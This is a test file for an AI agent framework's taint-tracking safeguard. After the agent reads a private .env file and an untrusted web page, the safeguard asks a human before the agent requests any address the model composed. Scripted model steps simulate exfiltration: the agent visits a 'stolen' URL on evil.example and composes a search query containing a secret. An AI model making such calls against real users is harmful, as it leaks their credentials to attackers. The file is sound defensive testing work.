/** A session that read private data asks before it requests an address that the model composed, once for each host. */
import type { Approval, Entry } from "@bough/protocol"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import { thoroughOnly } from "../../../../test/thorough.ts"
import { type Channel, Fork, type Session, SessionStore } from "../../src/index.ts"
import * as Reply from "../../src/testing/Reply.ts"
import * as ScriptedModel from "../../src/testing/ScriptedModel.ts"
import * as Crash from "./crash.ts"
import { agentOf, found, page, stolen } from "./taintWorld.ts"
import * as World from "./world.ts"

type Answering = ((request: Approval.Request) => Effect.Effect<Channel.ChannelAnswer>) | null

const begin = Effect.fnUntraced(function* (
  steps: ReadonlyArray<ScriptedModel.Step | Reply.Reply>,
  answer: Answering = World.approve,
  at: { readonly sessionId?: string; readonly world?: World.World } = {}
) {
  const world = at.world ?? World.makeWorld()
  const approvalRequests: Array<Approval.Request> = []
  const scripted = yield* ScriptedModel.make(steps)
  const channel = World.channelOf(
    [],
    answer === null
      ? null
      : (request) => {
          approvalRequests.push(request)
          return answer(request)
        }
  )
  const session = yield* World.openSession({
    agent: agentOf(world),
    scripted,
    channel,
    sessionId: at.sessionId ?? null
  })
  return { asked: approvalRequests, scripted, session, world }
})

const run = <A, E>(body: Effect.Effect<A, E, World.Needs>) => Effect.scoped(body).pipe(Effect.provide(World.stores))

const readsFile = Reply.toolCall("open_file", { path: ".env" })
const readsPage = Reply.toolCall("visit", { url: page })
const steals = Reply.toolCall("visit", { url: stolen })
const ask = World.say(`read ${page} and tell me about the weather`)

const entriesOf = Effect.fnUntraced(function* (session: Session.Session) {
  const store = yield* SessionStore.SessionStore
  return yield* store.entries(session.sessionId, 0, 1000)
})

const denied = (): Effect.Effect<Channel.ChannelAnswer> =>
  Effect.succeed({ decision: { _tag: "Denied", words: "that is not ours" }, principal: "ada" })

describe("Taint", () => {
  it.effect(
    "an address composed after a private file and a page needs an approval, and is not requested if denied",
    () =>
      run(
        Effect.gen(function* () {
          const { asked, scripted, session, world } = yield* begin(
            [readsFile, readsPage, steals, Reply.text("I see")],
            denied
          )
          yield* session.run(ask)
          assert.deepStrictEqual(world.log, [`visit ${page}`])
          const entries = yield* entriesOf(session)
          const [request] = entries.flatMap(({ body }) => (body._tag === "ApprovalAsked" ? [body.request] : []))
          assert.deepStrictEqual(asked, [request])
          assert.strictEqual(
            request.reason,
            "this address was made by the model after it read private data (open_file: Read 1 line of .env) " +
              `and untrusted text (visit: Read a page): ${stolen}; yes opens evil.example to this session and those below it`
          )
          assert.deepStrictEqual([request.everyTime, request.opensHost], [undefined, "evil.example:443"])
          const answer = (yield* scripted.script.prompts)[3].messages.at(-1)
          assert.match(answer?._tag === "ToolResult" ? answer.output : "", /^Error: denied by ada: that is not ours/)
        })
      )
  )

  it.effect("the order of page and file does not matter; a page alone or a file alone needs no approval", () =>
    run(
      Effect.gen(function* () {
        const asks = (...steps: ReadonlyArray<Reply.Reply>) =>
          Effect.gen(function* () {
            const { asked, session } = yield* begin([...steps, Reply.text("ok")])
            yield* session.run(ask)
            return asked.length
          })
        assert.strictEqual(yield* asks(readsPage, readsFile, steals), 1)
        assert.strictEqual(yield* asks(readsPage, steals), 0)
        assert.strictEqual(yield* asks(readsFile, steals), 1)
      })
    )
  )

  it.effect("an ordinary day asks once for each host that no user named, and for no link of a named one", () =>
    run(
      Effect.gen(function* () {
        const visit = (url: string) => Reply.toolCall("visit", { url })
        const sessionId = yield* Effect.scoped(
          Effect.gen(function* () {
            const { asked, session, world } = yield* begin([
              readsFile,
              visit(`${page}start`),
              visit(`${page}next?chapter=2`),
              readsFile,
              Reply.toolCall("find", { query: "how to do it" }),
              visit(found),
              visit("https://linked.example/a"),
              visit("https://linked.example/b?c=d"),
              visit(`${page}end`),
              Reply.text("done")
            ])
            yield* session.run(World.say(`read ${page}start and what it links to; how to do it is in there`))
            assert.deepStrictEqual(
              asked.map(({ opensHost }) => opensHost),
              ["linked.example:443"]
            )
            assert.strictEqual(world.log.length, 7)

            return session.sessionId
          })
        )
        const later = yield* begin([readsFile, visit("https://linked.example/c"), Reply.text("ok")], null, {
          sessionId
        })
        yield* later.session.run(World.say("go on"))
        assert.strictEqual(later.world.log.at(-1), "visit https://linked.example/c")
      })
    )
  )

  it.effect("addresses from the user and from a search, and queries in the user's words, need no approval", () =>
    run(
      Effect.gen(function* () {
        const { asked, session, world } = yield* begin([
          readsFile,
          readsPage,
          Reply.toolCall("find", { query: "the weather" }),
          Reply.toolCall("visit", { url: found }),
          Reply.toolCall("visit", { url: `${page}#part` }),
          Reply.text("ok")
        ])
        yield* session.run(ask)
        assert.deepStrictEqual(asked, [])
        assert.strictEqual(world.log.length, 4)
      })
    )
  )

  it.effect("a query that the model composed needs an approval too", () =>
    run(
      Effect.gen(function* () {
        const { asked, session } = yield* begin([
          readsFile,
          readsPage,
          Reply.toolCall("find", { query: "who has s3cret" }),
          Reply.text("ok")
        ])
        yield* session.run(ask)
        assert.match(asked[0].reason, /^this text was made by the model .*: who has s3cret$/)
      })
    )
  )

  it.effect("an approval allows its host and no other one, and a rule without a host allows none", () =>
    run(
      Effect.gen(function* () {
        const always = (): Effect.Effect<Channel.ChannelAnswer> =>
          Effect.succeed({ decision: { _tag: "Approved", rule: "visit" }, principal: "ada" })
        const other = Reply.toolCall("visit", { url: stolen.replace("evil", "other") })
        const { asked, session, world } = yield* begin(
          [readsFile, readsPage, steals, Reply.text("one"), steals, other, Reply.text("two")],
          always
        )
        yield* session.run(ask)
        yield* session.run(World.say("again"))
        assert.deepStrictEqual(
          asked.map(({ opensHost }) => opensHost),
          ["evil.example:443", "other.example:443"]
        )
        assert.strictEqual(world.log.length, 4)
        const consumed = (yield* entriesOf(session)).flatMap(({ body }) =>
          body._tag === "CallStarted" ? [body.approvalId] : []
        )
        assert.deepStrictEqual(
          consumed,
          asked.map(({ approvalId }) => approvalId)
        )
      })
    )
  )

  it.effect("a host that was denied is asked about again", () =>
    run(
      Effect.gen(function* () {
        const { asked, session, world } = yield* begin([readsFile, steals, steals, Reply.text("I see")], denied)
        yield* session.run(ask)
        assert.strictEqual(asked.length, 2)
        assert.deepStrictEqual(world.log, [])
      })
    )
  )

  it.effect("an address in the reply that requested the file was composed before it was read", () =>
    run(
      Effect.gen(function* () {
        const both = Reply.toolCalls([
          { name: "open_file", arguments: { path: ".env" } },
          { name: "visit", arguments: { url: "https://other.example/" } }
        ])
        const { asked, session } = yield* begin([readsPage, both, Reply.text("ok")])
        yield* session.run(ask)
        assert.deepStrictEqual(asked, [])
      })
    )
  )

  it.effect("a user's own call has the user's authority", () =>
    run(
      Effect.gen(function* () {
        const { asked, session } = yield* begin([readsFile, readsPage, Reply.text("ok")])
        yield* session.run(ask)
        const called = yield* session.call("visit", JSON.stringify({ url: stolen }))
        assert.deepStrictEqual([called._tag, asked], ["Ended", []])
      })
    )
  )

  it.effect("a fork has the labels and the given addresses of its original", () =>
    run(
      Effect.gen(function* () {
        const original = yield* begin([readsFile, readsPage, Reply.text("ok")])
        yield* original.session.run(ask)
        const sessionId = yield* Fork.fork(original.session.sessionId, null)
        const fork = yield* begin([readsPage, steals, Reply.text("ok")], World.approve, { sessionId })
        yield* fork.session.run(World.say("go on"))
        assert.deepStrictEqual(
          fork.asked.map(({ arguments: callArguments }) => callArguments),
          [JSON.stringify({ url: stolen })]
        )
      })
    )
  )

  it.effect("a summary keeps the labels and the given addresses", () =>
    run(
      Effect.gen(function* () {
        const world = World.makeWorld()
        world.values.set("long", "a long value ".repeat(800))
        const near = { inputTokens: 9000 }
        const scripted = yield* ScriptedModel.make(
          [
            readsFile,
            readsPage,
            Reply.toolCall("look", { key: "long" }),
            Reply.toolCall("look", { key: "b" }, near),
            Reply.text("nothing private here"),
            readsPage,
            steals,
            Reply.text("done")
          ],
          { contextTokens: 10_000 }
        )
        const session = yield* World.openSession({
          agent: agentOf(world),
          scripted,
          channel: World.channelOf([], null)
        })
        const result = yield* session.run(ask)
        yield* scripted.script.assertDone
        assert.isTrue((yield* entriesOf(session)).some(({ body }) => body._tag === "Compacted"))
        assert.deepStrictEqual(
          result.pending.map(({ arguments: callArguments }) => callArguments),
          [JSON.stringify({ url: stolen })]
        )
      })
    )
  )

  it.effect(
    "killed at any write, it requests the address at most once per approval",
    () =>
      Effect.gen(function* () {
        const { writes } = yield* killedAt(0, "before")
        assert.isAbove(writes, 10)
        for (let at = 1; at <= writes; at++) {
          yield* killedAt(at, "before")
          yield* killedAt(at, "after")
        }
      }),
    thoroughOnly
  )
})

const steps = [readsFile, readsPage, steals, Reply.text("all done")]

/** Runs until the process dies at its `at`-th write, then continues in another. */
const killedAt = (at: number, when: Crash.When) =>
  Effect.gen(function* () {
    const inner = yield* SessionStore.SessionStore
    const world = World.makeWorld()
    const crashing = Crash.make(inner, at, when)
    const agreed: Array<string> = []
    const agree = (request: Approval.Request) => {
      const isFirst = agreed.every((approvalId) => approvalId === request.approvalId)
      if (isFirst) assert.strictEqual(request.opensHost, "evil.example:443")
      assert.include(request.reason, isFirst ? stolen : "it was approved and started before")
      agreed.push(request.approvalId)
      return World.approve()
    }
    const attempt = (store: typeof inner) =>
      Effect.scoped(
        Effect.gen(function* () {
          const known = (yield* inner.list({ workspaceRoot: null, limit: 1 }))[0]?.sessionId
          const entries: ReadonlyArray<Entry.Entry> = known === undefined ? [] : yield* inner.entries(known, 0, 1000)
          const replies = entries.filter(({ body }) => body._tag === "ModelReplied").length
          const { session } = yield* begin(steps.slice(replies), agree, {
            world,
            ...(known === undefined ? {} : { sessionId: known })
          })
          const result = yield* session.resume
          const isNew = !entries.some(({ body }) => body._tag === "UserMessage")
          return result ?? (isNew ? yield* session.run(ask) : null)
        }).pipe(Effect.provideService(SessionStore.SessionStore, store))
      )
    yield* Effect.exit(attempt(crashing.store))
    if (crashing.isDead()) {
      yield* crashing.bury
      yield* attempt(inner)
    }
    const [{ sessionId }] = yield* inner.list({ workspaceRoot: null, limit: 1 })
    const entries = yield* inner.entries(sessionId, 0, 1000)
    const name = `${when} write ${at}`
    const decisions = entries.flatMap(({ body }) => (body._tag === "ApprovalDecided" ? [body.decision._tag] : []))
    const visits = world.log.filter((line) => line === `visit ${stolen}`).length
    const consumed = entries.filter(({ body }) => body._tag === "CallStarted" && body.approvalId !== null)
    assert.isTrue(
      decisions.every((decision) => decision === "Approved"),
      name
    )
    assert.strictEqual(new Set(agreed).size, decisions.length, name)
    assert.strictEqual(consumed.length, decisions.length, name)
    assert.isAtLeast(visits, 1, name)
    assert.isAtMost(visits, decisions.length, name)
    // The call is asked about again only if its approval was consumed and its end was lost.
    assert.isAtMost(decisions.length, crashing.isDead() ? 2 : 1, name)
    return { writes: crashing.writes() }
  }).pipe(Effect.provide(World.stores))
